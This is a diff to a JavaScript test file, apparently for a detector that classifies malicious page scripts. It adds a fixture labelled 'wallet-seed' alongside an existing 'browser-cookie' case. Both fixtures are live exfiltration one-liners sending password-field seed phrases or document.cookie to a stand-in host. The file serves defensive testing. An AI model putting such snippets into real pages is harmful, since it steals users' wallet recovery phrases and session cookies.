@@ -94,6 +94,11 @@ describe("a page", () => {
       "browser-login",
     ],
     [
+      "phrases",
+      "setInterval(() => { const { value } = document.querySelector('input[type=password]'); if (value.split(' ').length > 11) navigator.sendBeacon('https://host.invalid/', value) }, 3000)",
+      "wallet-seed",
+    ],
+    [
       "cookies",
       "fetch('https://host.invalid/', { method: 'POST', body: document.cookie })",
       "browser-cookie",
